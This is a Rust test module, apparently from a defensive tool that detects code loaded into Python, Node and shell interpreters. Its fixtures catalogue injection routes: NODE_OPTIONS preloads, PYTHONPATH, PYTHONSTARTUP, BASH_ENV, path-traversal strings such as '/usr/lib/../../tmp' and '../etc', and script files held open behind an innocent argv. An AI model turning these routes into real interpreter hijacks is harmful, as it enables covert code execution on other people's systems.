        let node: Vec<_> = node
            .iter()
            .map(|l| (l.via.as_str(), l.target.clone()))
            .collect();
        assert_eq!(
            node,
            vec![
                ("NODE_OPTIONS (node --require)", File("/tmp/h k.js".into())),
                ("NODE_OPTIONS (node --import)", Module("x".into())),
                ("NODE_PATH", Dir("/n".into())),
            ]
        );
        let py_env = env(&[
            "PYTHONPATH=/tmp/p:",
            "PYTHONSTARTUP=/tmp/s.py",
            "PYTHONHOME=/opt/py",
            "PYTHONINSPECT=1",
        ]);
        let python = environment_loads("python", &py_env, &none);
        assert_eq!(python.len(), 4, "{python:?}");
        assert!(python_inspects(&py_env, &none));
        let ignoring = PythonFlags {
            ignore_environment: true,
            ..PythonFlags::default()
        };
        assert!(environment_loads("python", &py_env, &ignoring).is_empty());
        assert!(!python_inspects(&py_env, &ignoring));
        let shells = env(&["BASH_ENV=/tmp/b", "ENV=/tmp/e"]);
        assert_eq!(environment_loads("bash", &shells, &none).len(), 2);
        assert_eq!(environment_loads("dash", &shells, &none).len(), 1);
        assert!(environment_loads("python", &shells, &none).is_empty());
        assert_eq!(split_words(" a 'b c'  \"d\"e "), vec!["a", "b c", "de"]);
    }

    #[test]
    fn package_locations_are_exact_prefixes_without_dot_dot() {
        for ok in [
            "/usr/lib/python3.11",
            "/usr/share/perl5/",
            "/lib/x86_64-linux-gnu/libc.so.6",
            "/usr/lib",
        ] {
            assert!(in_package_location(ok), "{ok}");
        }
        for bad in [
            "/usr/local/lib/python3.11",
            "/usr/lib/../../tmp",
            "/usr/lib/./x",
            "/usr/lib//x",
            "/usr/library",
            "/tmp",
            "",
            "usr/lib",
            "/opt/x",
            "/home/u/.local/lib",
        ] {
            assert!(!in_package_location(bad), "{bad}");
        }
    }

    #[test]
    fn python_search_paths_are_deduplicated_and_capped() {
        let none = PythonFlags::default();
        let long = |distinct: usize| {
            let mut entries: Vec<String> = (0..distinct).map(|i| format!("/d{i}")).collect();
            entries.resize(60_000, "/".into());
            env(&[&format!("PYTHONPATH={}", entries.join(":")), "HOME=/home/u"])
        };
        // 60,000 entries, 51 distinct with `/`: searched once each, the cwd first.
        let path = python_module_path("/usr/bin/python3.11", "/", &long(50), None, &none).unwrap();
        assert_eq!(path.len(), 1 + 50 + 8);
        assert_eq!((path[0].dir.as_str(), path[0].origin), ("/", "the cwd"));
        assert_eq!(path.iter().filter(|d| d.dir == "/").count(), 1);
        // Beyond the cap: not searched at all.
        let err = python_module_path("/usr/bin/python3.11", "/", &long(100), None, &none)
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("109 distinct entries on sys.path, more than 64"),
            "{err}"
        );
        // The variable's own loads: one per distinct directory, or one saying why not.
        let loads = environment_loads("python", &long(50), &none);
        assert_eq!(loads.len(), 51);
        let loads = environment_loads("python", &long(100), &none);
        assert_eq!(loads.len(), 1);
        assert_eq!(
            loads[0].target,
            LoadTarget::Code(
                "101 distinct directories, more than 64: not judged one by one".into()
            )
        );
    }

    #[test]
    fn the_module_search_stops_at_the_deadline() {
        let path = [SearchDir {
            dir: "/usr/lib/python3.11".into(),
            origin: "the standard library",
        }];
        let probes = std::cell::Cell::new(0);
        let probe = |_: &str| {
            probes.set(probes.get() + 1);
            PathKind::Dir
        };
        let _scope = crate::deadline::Deadline::after(std::time::Duration::ZERO).enter();
        let err = resolve_python_module(&path, "3.11", "json", &probe).unwrap_err();
        assert!(matches!(err, JudgeError::DeadlinePassed), "{err}");
        assert_eq!(probes.get(), 0);
    }

    #[test]
    fn python_module_path_follows_cpython_order_and_switches() {
        let none = PythonFlags::default();
        let dirs = |path: &[SearchDir]| path.iter().map(|d| d.dir.clone()).collect::<Vec<_>>();
        let path = python_module_path(
            "/usr/bin/python3.11",
            "/w",
            &env(&["HOME=/home/u"]),
            None,
            &none,
        )
        .unwrap();
        assert_eq!(
            dirs(&path),
            vec![
                "/w",
                "/usr/lib/python311.zip",
                "/usr/lib/python3.11",
                "/usr/lib/python3.11/lib-dynload",
                "/home/u/.local/lib/python3.11/site-packages",
                "/usr/local/lib/python3.11/dist-packages",
                "/usr/lib/python3/dist-packages",
                "/usr/lib/python3.11/dist-packages",
                "/usr/lib/python3.11/site-packages",
            ]
        );
        let path = python_module_path(
            "/usr/bin/python3.11",
            "/w",
            &env(&[
                "PYTHONPATH=lib:/p",
                "PYTHONHOME=/h",
                "PYTHONUSERBASE=/ub",
                "HOME=/home/u",
            ]),
            None,
            &none,
        )
        .unwrap();
        assert_eq!(
            &dirs(&path)[..7],
            &[
                "/w",
                "/w/lib",
                "/p",
                "/h/lib/python311.zip",
                "/h/lib/python3.11",
                "/h/lib/python3.11/lib-dynload",
                "/ub/lib/python3.11/site-packages"
            ]
        );
        assert_eq!(path[1].origin, "PYTHONPATH");
        assert_eq!(path[4].origin, "PYTHONHOME");
        // -I: no cwd, no environment, no user site. PYTHONNOUSERSITE / PYTHONSAFEPATH too.
        let isolated = PythonFlags {
            ignore_environment: true,
            no_user_site: true,
            safe_path: true,
            inspect: false,
        };
        let path = python_module_path(
            "/usr/bin/python3.11",
            "/w",
            &env(&["PYTHONPATH=/p"]),
            Some("/home/u"),
            &isolated,
        )
        .unwrap();
        assert_eq!(path[0].dir, "/usr/lib/python311.zip");
        assert!(path
            .iter()
            .all(|d| d.origin != "user site-packages" && d.origin != "PYTHONPATH"));
        let path = python_module_path(
            "/usr/bin/python3.11",
            "/w",
            &env(&["PYTHONNOUSERSITE=1", "PYTHONSAFEPATH=1"]),
            Some("/home/u"),
            &none,
        )
        .unwrap();
        assert!(path
            .iter()
            .all(|d| d.origin != "user site-packages" && d.origin != "the cwd"));
        // The passwd home when HOME is not set.
        let path =
            python_module_path("/usr/bin/python3.11", "/w", &[], Some("/home/p"), &none).unwrap();
        assert!(path
            .iter()
            .any(|d| d.dir == "/home/p/.local/lib/python3.11/site-packages"));
        // Unknowable: fail.
        assert!(python_module_path("/usr/bin/python3", "/w", &[], Some("/h"), &none).is_err());
        assert!(python_module_path("/usr/bin/python3.11", "", &[], Some("/h"), &none).is_err());
        assert!(python_module_path("/usr/bin/python3.11", "/w", &[], None, &none).is_err());
    }

    #[test]
    fn python_modules_resolve_like_the_path_finder() {
        use std::collections::HashMap;
        let none = PythonFlags::default();
        let path = python_module_path(
            "/usr/bin/python3.11",
            "/w",
            &env(&["HOME=/home/u"]),
            None,
            &none,
        )
        .unwrap();
        let fs: HashMap<&str, PathKind> = [
            ("/w", PathKind::Dir),
            ("/usr/lib/python3.11", PathKind::Dir),
            ("/usr/lib/python3.11/json", PathKind::Dir),
            ("/usr/lib/python3.11/json/__init__.py", PathKind::File),
            ("/usr/lib/python3.11/json/tool.py", PathKind::File),
            ("/usr/lib/python3.11/http", PathKind::Dir),
            ("/usr/lib/python3.11/http/__init__.py", PathKind::File),
            ("/usr/lib/python3.11/http/server.py", PathKind::File),
            ("/usr/lib/python3.11/venv", PathKind::Dir),
            ("/usr/lib/python3.11/venv/__init__.py", PathKind::File),
            ("/usr/lib/python3.11/venv/__main__.py", PathKind::File),
            ("/home/u/.local/lib/python3.11/site-packages", PathKind::Dir),
            (
                "/home/u/.local/lib/python3.11/site-packages/beacon.py",
                PathKind::File,
            ),
            (
                "/home/u/.local/lib/python3.11/site-packages/ns",
                PathKind::Dir,
            ),
            (
                "/home/u/.local/lib/python3.11/site-packages/ns/x.py",
                PathKind::File,
            ),
            ("/usr/lib/python3/dist-packages", PathKind::Dir),
            ("/usr/lib/python3/dist-packages/yaml", PathKind::Dir),
            (
                "/usr/lib/python3/dist-packages/yaml/__init__.py",
                PathKind::File,
            ),
            ("/w/code.py", PathKind::File),
            ("/usr/lib/python3.11/locked", PathKind::Unknown),
        ]
        .into_iter()
        .collect();
        let probe = |p: &str| fs.get(p).copied().unwrap_or(PathKind::Missing);
        let found = |m: &str| resolve_python_module(&path, "3.11", m, &probe);
        let (file, dir) = found("json.tool").unwrap();
        assert_eq!(
            (file.as_str(), dir.origin),
            ("/usr/lib/python3.11/json/tool.py", "the standard library")
        );
        assert_eq!(
            found("http.server").unwrap().0,
            "/usr/lib/python3.11/http/server.py"
        );
        assert_eq!(
            found("venv").unwrap().0,
            "/usr/lib/python3.11/venv/__main__.py"
        );
        let (file, dir) = found("beacon").unwrap();
        assert_eq!(
            (file.as_str(), dir.origin),
            (
                "/home/u/.local/lib/python3.11/site-packages/beacon.py",
                "user site-packages"
            )
        );
        // The cwd shadows the standard library.
        assert_eq!(found("code").unwrap().0, "/w/code.py");
        // A namespace portion outside package locations, a failed probe, nothing: Err.
        let why = |m: &str| found(m).unwrap_err().to_string();
        assert!(why("ns.x").contains("namespace"));
        assert!(matches!(
            found("locked").unwrap_err(),
            JudgeError::PathUnknown(_)
        ));
        assert!(why("nowhere").contains("not on sys.path"));
        assert!(why("yaml").contains("no __main__"));
        assert!(found("../etc").is_err());
        assert!(found("").is_err());
        // A zip on the path that exists cannot be looked into.
        let zip_fs = |p: &str| {
            if p == "/usr/lib/python311.zip" {
                PathKind::File
            } else {
                probe(p)
            }
        };
        assert!(resolve_python_module(&path, "3.11", "json.tool", &zip_fs)
            .unwrap_err()
            .to_string()
            .contains("zip"));
        // …unless the module is found before it.
        assert_eq!(
            resolve_python_module(&path, "3.11", "code", &zip_fs)
                .unwrap()
                .0,
            "/w/code.py"
        );
    }
    #[test]
    fn argv_is_cross_checked_against_the_script_files_held_open() {
        let file = |fd: i64, ino: u64, path: &str| OpenFile {
            fd,
            dev: 1,
            ino,
            path: path.into(),
        };
        let key = (1, 7);
        let script = "/usr/bin/ldd";
        // bash: fd 255 is the script.
        assert_eq!(
            argv_disagreement(
                "bash",
                "/usr/bin/bash",
                script,
                key,
                &[file(255, 7, script)]
            ),
            None
        );
        let other = argv_disagreement(
            "bash",
            "/usr/bin/bash",
            script,
            key,
            &[file(255, 9, "/home/u/x.sh")],
        );
        assert!(other.unwrap().contains("bash runs /home/u/x.sh (fd 255)"));
        let none = argv_disagreement("bash", "/usr/bin/bash", script, key, &[file(3, 7, script)]);
        assert!(none.unwrap().contains("no script on fd 255"));
        // dash: the script is on some fd >= 10.
        assert_eq!(
            argv_disagreement(
                "dash",
                "/usr/bin/dash",
                script,
                key,
                &[file(10, 3, "/dev/null"), file(11, 7, script)]
            ),
            None
        );
        assert!(argv_disagreement(
            "dash",
            "/usr/bin/dash",
            script,
            key,
            &[file(10, 8, "/home/u/y")]
        )
        .unwrap()
        .contains("dash runs /home/u/y (fd 10)"));
        assert!(argv_disagreement("dash", "/usr/bin/dash", script, key, &[]).is_some());
        // Any interpreter: another script of its language held open, outside packages.
        let py = "/usr/lib/python3.11/code.py";
        assert_eq!(
            argv_disagreement(
                "python",
                "/usr/bin/python3.11",
                py,
                key,
                &[file(3, 5, "/home/u/data.json")]
            ),
            None
        );
        assert_eq!(
            argv_disagreement(
                "python",
                "/usr/bin/python3.11",
                py,
                key,
                &[file(3, 5, "/usr/lib/python3.11/os.py")]
            ),
            None
        );
        assert!(argv_disagreement(
            "python",
            "/usr/bin/python3.11",
            py,
            key,
            &[file(4, 5, "/tmp/real.py")]
        )
        .unwrap()
        .contains("holds /tmp/real.py open (fd 4)"));
        // perl and node have no fd rule beyond that: nothing held, nothing said.
        assert_eq!(
            argv_disagreement("perl", "/usr/bin/perl", "/usr/bin/json_pp", key, &[]),
            None
        );
    }
}
